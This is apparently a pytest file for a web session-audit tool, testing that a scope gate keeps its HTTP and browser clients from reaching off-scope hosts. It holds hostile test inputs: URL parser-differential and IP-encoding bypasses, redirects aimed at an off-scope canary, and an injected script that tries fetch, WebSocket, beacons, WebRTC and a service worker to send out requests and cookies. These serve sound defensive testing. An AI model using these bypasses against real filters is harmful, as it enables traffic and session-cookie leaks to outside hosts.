"""The scope gate: no client of ours (browser, plain HTTP, sampling) ever sends a request off scope.

A hostile loopback target tries every way out it can: parser-differential redirects for the plain-HTTP
client, and sub-resources, fetch, WebSocket, EventSource, beacons, WebRTC and a service worker for the
browser, each aimed at a canary listener on 127.0.0.2 (off scope: the target is 127.0.0.1). The canaries
count every connection and datagram; the audit passes only if they count none.
"""

from __future__ import annotations

import socket
import socketserver
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from playwright.sync_api import Browser
from werkzeug.wrappers import Request, Response

from isp_audit.demo.apps import PASSWORD_ENV, RunningApp, ServerSideApp
from isp_audit.net.scope import Scope
from tests.conftest import scan_in_process

PASSWORD = "scope-Pa55-word-canary"
OFF_SCOPE = "127.0.0.2"


# --- the gate itself, URL by URL ---------------------------------------------------------------------
SCOPE = Scope(frozenset({"127.0.0.1", "app.example", "[::1]:8443"}))


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:8000/account",
        "https://APP.example/x?y=1",  # host names are case-insensitive
        "http://[::1]:8443/",
        "data:text/plain,hi",
    ],
)
def test_gate_admits_scope(url: str) -> None:
    assert SCOPE.refusal(url) is None


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.2:19050\\@127.0.0.1:8000/home",  # urlsplit says 127.0.0.1; urllib3 connects to .2
        "http://127.0.0.2:19050\\\\@127.0.0.1/",
        "http://127.0.0.1@127.0.0.2/",  # userinfo
        "http://user:pw@127.0.0.1/",  # userinfo, even towards scope: ambiguous for some parsers
        "http://127.0.0.1 @127.0.0.2/",
        "http://127.0.0.1\t.evil/",
        "http://2130706434/",  # decimal 127.0.0.2
        "http://2130706433/",  # decimal 127.0.0.1: not the host the profile named
        "http://0177.0.0.1/",  # octal
        "http://0x7f.0.0.1/",  # hex
        "http://127.1/",
        "http://[::ffff:127.0.0.1]/",  # IPv4-mapped IPv6
        "http://[::1]:9000/",  # in scope only on port 8443
        "http://app.example.evil/",
        "http://xn--pp-example-9ib/",
        "http://аpp.example/",  # Cyrillic а: an IDN look-alike
        "ftp://127.0.0.1/",
        "javascript:alert(1)",
        "//127.0.0.2/",
    ],
)
def test_gate_refuses_off_scope_and_ambiguous(url: str) -> None:
    assert SCOPE.refusal(url) is not None
    with pytest.raises(Exception, match="refused to contact"):
        SCOPE.require(url)


# --- a hostile target against real clients ----------------------------------------------------------
class _Canary:
    """TCP and UDP listeners on an off-scope loopback address that count what reaches them."""

    def __init__(self) -> None:
        self.tcp_hits: list[bytes] = []
        self.udp_hits = 0
        outer = self

        class Handler(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                self.request.settimeout(1.0)
                try:
                    outer.tcp_hits.append(self.request.recv(4096))
                    self.request.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
                except OSError:
                    outer.tcp_hits.append(b"")

        self.tcp = socketserver.ThreadingTCPServer((OFF_SCOPE, 0), Handler)
        self.tcp.daemon_threads = True
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind((OFF_SCOPE, 0))
        self.udp.settimeout(0.2)
        self._stop = threading.Event()

    @property
    def port(self) -> int:
        return self.tcp.server_address[1]

    @property
    def udp_port(self) -> int:
        return self.udp.getsockname()[1]

    def _count_udp(self) -> None:
        while not self._stop.is_set():
            try:
                self.udp.recvfrom(2048)
                self.udp_hits += 1
            except OSError:
                continue

    @contextmanager
    def running(self) -> Iterator[_Canary]:
        threads = [
            threading.Thread(target=self.tcp.serve_forever, daemon=True),
            threading.Thread(target=self._count_udp, daemon=True),
        ]
        for t in threads:
            t.start()
        try:
            yield self
        finally:
            self._stop.set()
            self.tcp.shutdown()
            self.tcp.server_close()
            for t in threads:
                t.join(timeout=5)
            self.udp.close()


def _escape_page(canary: _Canary) -> str:
    """Every browser-side way out we know, aimed at the canary."""
    off = f"http://{OFF_SCOPE}:{canary.port}"
    return f"""
<img src="{off}/img"><img src="http://2130706434:{canary.port}/decimal"><img src="http://0177.0.0.2:{canary.port}/octal">
<img src="http://[::ffff:127.0.0.2]:{canary.port}/mapped"><img src="http://127.0.0.2:{canary.port}\\@127.0.0.1/bs">
<script>
try {{ fetch("{off}/fetch", {{mode: "no-cors", credentials: "include"}}).catch(() => 0); }} catch (e) {{}}
try {{ new WebSocket("ws://{OFF_SCOPE}:{canary.port}/ws"); }} catch (e) {{}}
try {{ new EventSource("{off}/events"); }} catch (e) {{}}
try {{ navigator.sendBeacon("{off}/beacon", "x"); }} catch (e) {{}}
try {{
  const pc = new RTCPeerConnection({{iceServers: [{{urls: "stun:{OFF_SCOPE}:{canary.udp_port}"}},
    {{urls: "turn:{OFF_SCOPE}:{canary.udp_port}?transport=udp", username: "u", credential: "c"}}]}});
  pc.createDataChannel("x");
  pc.createOffer().then(o => pc.setLocalDescription(o)).catch(() => 0);
}} catch (e) {{}}
try {{ navigator.serviceWorker && navigator.serviceWorker.register("/sw.js").catch(() => 0); }} catch (e) {{}}
</script>"""


class HostileApp(ServerSideApp):
    """A correct server-side app whose pages try to make our clients leave scope."""

    def __init__(self, canary: _Canary, location: str, escapes: bool) -> None:
        super().__init__()
        self.canary = canary
        self.location = location
        self.escapes = escapes  # serve the browser-side escape page too (slow: each load tries them all)

    def __call__(self, environ: dict, start_response):  # type: ignore[no-untyped-def]
        request = Request(environ)
        if request.path == "/sw.js":
            body = f"fetch('http://{OFF_SCOPE}:{self.canary.port}/sw').catch(() => 0);"
            return Response(body, mimetype="text/javascript")(environ, start_response)
        logged_in = "user" in (self._session(request)[1] or {})
        if request.path == "/account" and "Sec-Fetch-Mode" not in request.headers and logged_in:
            # Not a browser, and logged in: send the plain-HTTP client to a parser-differential Location,
            # raw (werkzeug's Response would percent-encode the backslash and defuse it).
            port = request.host.rsplit(":", 1)[-1]
            start_response(
                "302 Found",
                [
                    ("Location", self.location.format(off=OFF_SCOPE, cport=self.canary.port, port=port)),
                    ("Content-Length", "0"),
                ],
            )
            return [b""]
        return super().__call__(environ, start_response)

    def account(self, request: Request) -> Response:
        resp = super().account(request)
        if resp.status_code == 200 and self.escapes:
            resp.set_data(resp.get_data(as_text=True).replace("</body>", _escape_page(self.canary) + "</body>"))
        return resp


# Each case: the Location the plain-HTTP client is sent to, the checks run, and whether the browser-side
# escape page is served too (slow: every page load tries each way out). The first case isolates the
# parser differential; the second runs every check that sends plain-HTTP requests, with the escape page.
_ALL = ("server-side-state", "logout-invalidates", "session-fixation", "concurrent-sessions", "token-entropy")
_BACKSLASH = "http://{off}:{cport}\\@127.0.0.1:{port}/account"
_CASES = {
    "backslash-userinfo": (_BACKSLASH, ("concurrent-sessions",), False),
    "backslash-all-checks-and-browser-escapes": (_BACKSLASH, _ALL, True),
    "userinfo": ("http://127.0.0.1:{port}@{off}:{cport}/account", ("concurrent-sessions",), False),
    "decimal-ip": ("http://2130706434:{cport}/account", ("concurrent-sessions",), False),
}


@pytest.mark.parametrize("case", list(_CASES))
def test_hostile_target_cannot_pull_any_client_off_scope(
    browser: Browser, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, case: str
) -> None:
    location, checks, escapes = _CASES[case]
    monkeypatch.setenv(PASSWORD_ENV, PASSWORD)
    with (
        _Canary().running() as canary,
        RunningApp(HostileApp(canary, location, escapes)) as app,
    ):
        result = scan_in_process(
            browser,
            {
                "target": {"base_url": app.url},
                "login": {"url": "/login", "username": "alice", "password_env": PASSWORD_ENV},
                "authenticated": {"url": "/account", "expect_text": "Signed in as"},
                "policy": {"entropy_samples": 30},
            },
            tmp_path,
            checks,
        )
        browser.new_context().close()  # let Chromium flush anything queued before we count
    with_cookie = sum(b"sid=" in hit for hit in canary.tcp_hits)
    assert canary.tcp_hits == [], (
        f"{len(canary.tcp_hits)} connection(s) reached the off-scope canary, {with_cookie} with sid"
    )
    assert canary.udp_hits == 0, f"{canary.udp_hits} datagram(s) reached the off-scope canary (WebRTC)"
    assert result.aborted is None, result.aborted
    # The target itself is sound: the gate must not cost the audit its verdicts.
    verdict = {c.check_id: c.verdict.value for c in result.checks}
    assert not {"error", "fail"} & set(verdict.values()), [(c.check_id, c.summary) for c in result.checks]
    if "logout-invalidates" in verdict:
        assert verdict["logout-invalidates"] == "pass"
